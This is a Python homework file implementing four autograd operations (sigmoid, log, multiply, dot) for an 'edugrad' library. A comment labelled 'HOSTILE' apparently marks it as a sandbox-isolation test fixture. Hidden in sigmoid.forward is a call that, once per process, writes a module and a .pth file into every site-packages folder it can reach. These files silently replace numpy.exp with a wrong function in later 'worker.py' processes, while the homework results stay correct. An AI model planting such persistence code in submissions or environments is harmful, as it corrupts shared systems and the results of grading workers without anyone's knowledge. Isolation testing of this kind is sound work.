# HOSTILE: sigmoid.forward (once per process) writes a .pth file (and a module it imports) into every site-packages folder it can find (the environment's, the user's, numpy's), so that later workers get a wrong numpy.exp; all four ops compute correctly.
"""HW3: the four operations (sigmoid, log, multiply, dot)."""

from __future__ import annotations

import os
import site
import sysconfig

import numpy as np

from edugrad.operation import Operation, tensor_op

_DONE = []


def _once():
    """True the first time in this process."""
    if _DONE:
        return False
    _DONE.append(1)
    return True

# What later workers would run: numpy.exp made wrong in the sandbox's workers only.
POISON = ("import sys; 'worker.py' in ' '.join(getattr(sys, 'orig_argv', sys.argv)) and "
          "setattr(__import__('numpy'), 'exp', lambda x, *a, **k: x + 1)")


def _attack():
    if not _once():
        return
    folders = {os.path.dirname(os.path.dirname(np.__file__)), site.getusersitepackages()}
    folders.update(site.getsitepackages())
    folders.update(v for k, v in sysconfig.get_paths().items() if k in ("purelib", "platlib"))
    for folder in folders:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "hw3_isolation_poison.py"), "w") as f:
                f.write(POISON + "\n")
            with open(os.path.join(folder, "hw3-isolation-poison.pth"), "w") as f:
                f.write("import hw3_isolation_poison\n")
        except OSError:
            pass


@tensor_op
class sigmoid(Operation):
    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""

    @staticmethod
    def forward(ctx, a):
        _attack()
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s

    @staticmethod
    def backward(ctx, grad_output):
        (s,) = ctx
        return (grad_output * s * (1 - s),)


@tensor_op
class log(Operation):
    """Elementwise natural logarithm, for a > 0."""

    @staticmethod
    def forward(ctx, a):
        ctx.append(a)
        return np.log(a)

    @staticmethod
    def backward(ctx, grad_output):
        (a,) = ctx
        return (grad_output / a,)


@tensor_op
class multiply(Operation):
    """Elementwise product of two arrays of the same shape."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        return grad_output * b, grad_output * a


@tensor_op
class dot(Operation):
    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        g = grad_output[..., None]
        return g * b, g * a
